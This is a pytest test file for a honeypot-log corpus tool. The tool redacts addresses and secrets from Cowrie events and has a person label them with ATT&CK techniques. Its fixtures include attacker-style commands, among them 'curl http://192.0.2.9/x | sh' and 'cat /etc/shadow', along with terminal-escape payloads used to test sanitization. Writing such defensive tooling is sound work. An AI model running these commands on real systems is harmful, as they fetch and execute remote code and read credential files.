"""`ttpc corpus`: rows of a real log, without whose it was, and a person who labels them."""

from __future__ import annotations

import gzip
import json
import os
import re
import subprocess
import sys
from collections.abc import Mapping
from ipaddress import ip_address
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner, Result

from ttpc.cli import app
from ttpc.corpus import Row, read_rows, write_rows
from ttpc.pull import address_of, kept, networks_of, stand_in

ROOT = Path(__file__).parents[2]
LOG = ROOT / "examples" / "cowrie.json"
ARTIFACT = str(ROOT / "generated")


@pytest.fixture(autouse=True)
def nobody(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("TTPC_EXCLUDE_IPS", raising=False)


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "rows.jsonl"


def pull(file: Path, *words: str | Path) -> Result:
    command = ["corpus", "pull", *map(str, words), "--to", str(file), "--artifact", ARTIFACT]
    return CliRunner().invoke(app, command)


def label(file: Path, *answers: str) -> Result:
    command = ["corpus", "label", str(file), "--artifact", ARTIFACT]
    return CliRunner().invoke(app, command, input="".join(f"{each}\n" for each in answers))


def event(text: str, src: str | None = "198.51.100.7", **payload: Any) -> str:
    said = {"command_text": text, **({"src": src} if src else {}), **payload}
    return json.dumps({"source_kind": "command", "payload": said}) + "\n"


def log(folder: Path, *lines: str) -> Path:
    path = folder / "events.jsonl"
    path.write_text("".join(lines))
    return path


# ---- pull: whose events ---------------------------------------------------------------------------


def test_it_wants_to_know_whose_addresses_are_the_operators(file: Path) -> None:
    done = pull(file, LOG)
    assert done.exit_code == 2
    assert "name them with --exclude-ip" in done.stderr
    assert "TTPC_EXCLUDE_IPS" in done.stderr
    assert "what you tried yourself is labelled as an attack" in done.stderr
    assert not file.exists()


@pytest.mark.parametrize(
    ("given", "variable", "message"),
    [
        (["--exclude-ip", "198.51.100.300"], "", "'198.51.100.300' does not appear to be"),
        ([], "198.51.100.1,10.0.0.0/33", "'10.0.0.0/33' does not appear to be"),
        (["--exclude-ip", "none"], "198.51.100.1", "`--exclude-ip none`, but there is `198.51.100.1`"),
        (["--exclude-ip", "none", "--kind", "comand"], "", "no kind `comand`; did you mean `command`?"),
    ],
)  # fmt: skip
def test_what_it_does_not_understand(
    file: Path, monkeypatch: pytest.MonkeyPatch, given: list[str], variable: str, message: str
) -> None:
    monkeypatch.setenv("TTPC_EXCLUDE_IPS", variable)
    done = pull(file, LOG, *given)
    assert done.exit_code == 2
    assert message in done.stderr
    assert not file.exists()


@pytest.mark.parametrize(
    ("given", "variable", "own"),
    [
        (["--exclude-ip", "none"], "", 0),
        ([], "none", 0),
        (["--exclude-ip", "198.51.100.7"], "", 1),
        ([], " 198.51.100.7 , 203.0.113.9", 2),
        (["--exclude-ip", "198.51.100.9/24"], "", 2),
        (["--exclude-ip", "198.51.100.7", "--exclude-ip", "2001:db8::/32"], "", 2),
        (["--exclude-ip", "198.51.100.7"], "198.51.100.8,203.0.113.0/24", 3),
    ],
)
def test_events_of_the_operators_are_left_out_and_counted(
    file: Path, monkeypatch: pytest.MonkeyPatch, given: list[str], variable: str, own: int
) -> None:
    monkeypatch.setenv("TTPC_EXCLUDE_IPS", variable)
    sources = ("198.51.100.7", "::ffff:198.51.100.8", "203.0.113.9", "2001:db8:1::5")
    events = log(file.parent, *(event(f"echo {n}", src) for n, src in enumerate(sources)))
    done = pull(file, events, *given)
    assert done.exit_code == 0
    assert f"4 events read, {own} event{'' if own == 1 else 's'} from excluded" in done.stderr
    assert len(read_rows(file)) == 4 - own


def test_events_that_do_not_say_from_where_are_told(file: Path) -> None:
    done = pull(file, log(file.parent, event("id", None)), "--exclude-ip", "192.0.2.0/24")
    assert "note: 1 event without an address: yours among them?\n" in done.stderr
    assert len(read_rows(file)) == 1


# ---- pull: what is kept ---------------------------------------------------------------------------


def test_equal_events_are_one_row_with_a_count(file: Path) -> None:
    events = (event("id", "198.51.100.7"), event("id", "203.0.113.9"), event("cat /etc/shadow"))
    pull(file, log(file.parent, *events), "--exclude-ip", "none")
    rows = read_rows(file)
    assert [(row.count, row.rules, row.labelled) for row in rows] == [
        (2, (), False),
        (1, ("R0014",), False),
    ]
    assert rows[0].payload == {"command_text": "id", "src": "192.0.2.1"}


def test_pulling_again_adds_only_what_is_new_and_keeps_labels(file: Path) -> None:
    first = log(file.parent, event("id"), event("uptime"))
    pull(file, first, "--exclude-ip", "none")
    label(file, "T1033 # who am I")
    labelled = read_rows(file)
    second = log(file.parent, event("uptime"), event("w"), event("id"))
    assert "3 different ones, 1 new in" in pull(file, second, "--exclude-ip", "none").stderr
    rows = read_rows(file)
    assert rows[:2] == labelled
    assert [row.payload["command_text"] for row in rows] == ["id", "uptime", "w"]
    assert rows[0].techniques == ("T1033",)


def test_a_row_that_a_person_has_renamed_is_not_pulled_again(file: Path) -> None:
    write_rows(file, [Row("command", {"command_text": "id", "src": "192.0.2.1"}, "mine")])
    pull(file, log(file.parent, event("id")), "--exclude-ip", "none")
    assert [row.label for row in read_rows(file)] == ["mine"]


def test_only_the_kinds_that_are_wanted(file: Path) -> None:
    pull(file, LOG, "--exclude-ip", "none", "--kind", "command", "--kind", "http_request")
    assert {row.source_kind for row in read_rows(file)} == {"command", "http_request"}


def test_the_example_log_leaves_no_address_and_no_password(file: Path) -> None:
    """Of all that the log says of who did it nothing is left: neither source nor target, nor what they typed."""
    lines = [json.loads(line) for line in LOG.read_text().splitlines()]
    peers = {line[key] for line in lines for key in ("src_ip", "dst_ip") if key in line}
    assert len(peers) > 10
    assert any(line.get("password") == "changeme" for line in lines)
    assert pull(file, LOG, "--exclude-ip", "none").exit_code == 0
    text = file.read_text()
    assert "changeme" not in text
    assert '"password": "[redacted]"' in text
    documentation = {each for each in peers if each.startswith("192.0.2.")}
    found = set(re.findall(r"\b\d+\.\d+\.\d+\.\d+\b", text))
    sources = {line["src_ip"] for line in lines if "src_ip" in line}
    assert not found & (sources - documentation)


def test_what_rules_may_not_show_is_not_kept(file: Path) -> None:
    request = {
        "source_kind": "http_request",
        "payload": {
            "raw_url": "/login?user=x&api_key=hunter2",
            "headers": {"Cookie": "hunter2", "Host": "198.51.100.9:8080"},
            "src": "198.51.100.7",
            "dst_ip": "198.51.100.9",
        },
    }
    pull(file, log(file.parent, json.dumps(request)), "--exclude-ip", "none")
    (row,) = read_rows(file)
    assert "hunter2" not in file.read_text()
    assert "198.51.100" not in file.read_text()
    assert row.payload["headers"]["Host"] == "192.0.2.2:8080"


addresses = st.ip_addresses().map(str)
values = st.recursive(
    st.text(max_size=8) | addresses | st.integers() | st.none(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=3), inner, max_size=3),
    max_leaves=6,
)  # fmt: skip


def as_it_is(_: str, payload: Mapping[str, Any]) -> Mapping[str, Any]:
    return payload


@given(addresses, st.text("abc ./:-", max_size=6), st.text("xyz ./-", max_size=6), values)
def test_an_address_that_is_a_value_is_in_no_other_text(
    address: str, before: str, after: str, beside: Any
) -> None:
    payload = {"src": address, "text": f"{before} {address} {after}", "beside": beside}
    found = kept("command", payload, as_it_is)
    if ip_address(address).is_loopback:
        assert found["src"] == address
        return
    assert found["src"] != address or address.startswith(("192.0.2.", "2001:db8:"))
    assert found["text"] == f"{before} {found['src']} {after}"
    assert kept("command", payload, as_it_is) == found


@given(st.ip_addresses(), st.integers(1, 10_000))
def test_a_stand_in_is_of_the_same_sort(address: Any, number: int) -> None:
    instead = address_of(stand_in(str(address), number))
    assert instead is not None
    plain = address_of(str(address))
    assert plain is not None
    assert instead.version == plain.version
    assert instead.is_loopback == plain.is_loopback
    if plain.version == 6:
        assert instead.is_link_local == plain.is_link_local


def test_different_addresses_stay_different() -> None:
    payload = {"src": "203.0.113.1", "webrtc_public_ip": "203.0.113.10", "text": "203.0.113.10!"}
    assert kept("canary_fingerprint", payload, as_it_is) == {
        "src": "192.0.2.1",
        "webrtc_public_ip": "192.0.2.2",
        "text": "192.0.2.2!",
    }


def test_networks() -> None:
    assert networks_of(["none"]) == ()
    with pytest.raises(ValueError, match="none"):
        networks_of(["none", "192.0.2.1"])


# ---- pull: files ----------------------------------------------------------------------------------


def test_compressed_logs_and_stdin(file: Path) -> None:
    packed = file.parent / "cowrie.json.gz"
    packed.write_bytes(gzip.compress(LOG.read_bytes()))
    assert pull(file, packed, "--exclude-ip", "none").exit_code == 0
    other = file.with_name("other.jsonl")
    words = [
        "corpus",
        "pull",
        "-",
        "--exclude-ip",
        "none",
        "--to",
        str(other),
        "--artifact",
        ARTIFACT,
    ]
    subprocess.run([sys.executable, "-m", "ttpc", *words], input=LOG.read_bytes(), check=True)
    assert other.read_bytes() == file.read_bytes()


def test_a_file_that_is_no_corpus_stays_as_it_is(file: Path) -> None:
    file.write_text('{"label": 1}\n')
    done = pull(file, LOG, "--exclude-ip", "none")
    assert done.exit_code == 1
    assert f"{file}:1: no `source_kind`" in done.stderr
    assert file.read_text() == '{"label": 1}\n'


def test_a_log_that_cannot_be_read(file: Path) -> None:
    done = pull(file, log(file.parent, event("id")), "nowhere", "--exclude-ip", "none")
    assert done.exit_code == 1
    assert "error: nowhere: " in done.stderr
    assert len(read_rows(file)) == 1


def test_a_folder_that_is_not_there(file: Path) -> None:
    done = pull(file.parent / "no" / "rows.jsonl", LOG, "--exclude-ip", "none")
    assert done.exit_code == 1
    assert "No such file or directory" in done.stderr


# ---- label ----------------------------------------------------------------------------------------


@pytest.fixture
def three(file: Path) -> Path:
    """Rows of which rules say one thing, nothing, and several."""
    texts = ("cat /etc/shadow", "ls", "curl http://192.0.2.9/x | sh")
    write_rows(file, [Row("command", {"command_text": t}, f"row-{n}") for n, t in enumerate(texts)])
    return file


def said(file: Path) -> list[tuple[tuple[str, ...], bool | None]]:
    return [(row.techniques, row.benign) for row in read_rows(file)]


def test_a_page_shows_the_event_and_what_rules_say(three: Path) -> None:
    shown = label(three).stdout
    assert "1 of 3: command row-0\n  command_text: cat /etc/shadow\n" in shown
    assert (
        "  R0014 says T1003.008 OS Credential Dumping: /etc/passwd and /etc/shadow (0.95)\n"
        in shown
    )
    assert "  no rule says anything\n" in label(three, "s").stdout


def test_answers(three: Path) -> None:
    done = label(three, "a", "b # an admin", "t1105, T1059.004")
    assert said(three) == [
        (("T1003.008",), False),
        ((), True),
        (("T1105", "T1059.004"), False),
    ]
    assert read_rows(three)[1].note == "an admin"
    assert done.exit_code == 0
    assert done.stdout.endswith("3 labels written, 0 rows left\n")


def test_accepting_and_more(three: Path) -> None:
    label(three, "a T1552 a", "q")
    assert said(three)[0] == (("T1003.008", "T1552"), False)


def test_whoever_comes_back_goes_on(three: Path) -> None:
    assert "1 label written, 2 rows left" in label(three, "a", "q").stdout
    again = label(three, "s", "b").stdout
    assert "1 of 2: command row-1" in again
    assert said(three) == [(("T1003.008",), False), ((), None), ((), True)]


def test_the_end_of_the_input_is_the_end(three: Path) -> None:
    done = label(three, "a")
    assert done.exit_code == 0
    assert done.stdout.endswith("\n1 label written, 2 rows left\n")


def test_going_back_to_say_something_else(three: Path) -> None:
    shown = label(three, "b", "p", "T1003.008", "q").stdout
    assert "labelled: benign" in shown
    assert said(three)[0] == (("T1003.008",), False)
    assert label(three, "p", "p", "q").stdout.count("\n1 of 2: command row-1\n") == 3


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        ("T1059.4", "`T1059.4` is no technique of ATT&CK 18.1; did you mean T1059.004 "),
        ("T1150", "`T1150` is no technique of ATT&CK 18.1; did you mean T1647 Plist File Modification?"),
        ("xyzzy", "`xyzzy` is no technique of ATT&CK 18.1\n"),
        ("b T1105", "`b` is no technique of ATT&CK 18.1"),
        ("?", "what follows a # is kept as a note"),
        ("", "what follows a # is kept as a note"),
    ],
)  # fmt: skip
def test_answers_that_say_nothing_are_asked_for_again(
    three: Path, answer: str, message: str
) -> None:
    before = three.read_bytes()
    shown = label(three, answer, "q").stdout
    assert message in shown
    assert shown.count("techniques, (a)ccept") == 2
    assert three.read_bytes() == before


def test_nothing_to_accept(three: Path) -> None:
    label(three, "b")
    shown = label(three, "a", "q").stdout
    assert "no rule says anything that could be accepted" in shown
    assert said(three)[1] == ((), None)


def test_what_others_write_meanwhile_is_kept(three: Path) -> None:
    """The answer goes into the file as it is when it is given."""
    command = [sys.executable, "-m", "ttpc", "corpus", "label", str(three), "--artifact", ARTIFACT]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as person:
        assert person.stdin is not None
        assert person.stdout is not None
        shown = b""
        while b"(a)ccept" not in shown:
            shown += os.read(person.stdout.fileno(), 4096) or pytest.fail("nothing is asked")
        write_rows(three, [*read_rows(three), Row("command", {"command_text": "w"}, "new")])
        person.communicate(b"b\nq\n")
    assert [(row.label, row.benign) for row in read_rows(three)] == [
        ("row-0", True),
        ("row-1", None),
        ("row-2", None),
        ("new", None),
    ]


def test_a_row_cannot_steer_the_terminal(file: Path) -> None:
    payload = {"command_text": "\x1b[2J\u202egnp.exe", "b\x07": ["\x9b1m"]}
    write_rows(file, [Row("command", payload, "a\x1b]0;x", note="n")])
    shown = label(file, "s").stdout
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]", shown)
    assert r"\x1b[2J\u202egnp.exe" in shown


def test_bytes_that_are_no_text_are_no_answer(three: Path) -> None:
    command = [sys.executable, "-m", "ttpc", "corpus", "label", str(three), "--artifact", ARTIFACT]
    environment = os.environ | {"PYTHONUTF8": "1", "PYTHONIOENCODING": "utf-8:strict"}
    done = subprocess.run(
        command, input=b"\xff\xfe\nb\n", capture_output=True, env=environment, check=True
    )
    assert b"is no technique" in done.stdout
    assert done.stderr == b""
    assert said(three)[0] == ((), True)


def test_a_file_that_is_no_corpus(file: Path) -> None:
    file.write_text("[]\n")
    done = label(file)
    assert done.exit_code == 1
    assert f"error: {file}:1: not a JSON object; a row is one" in done.stderr
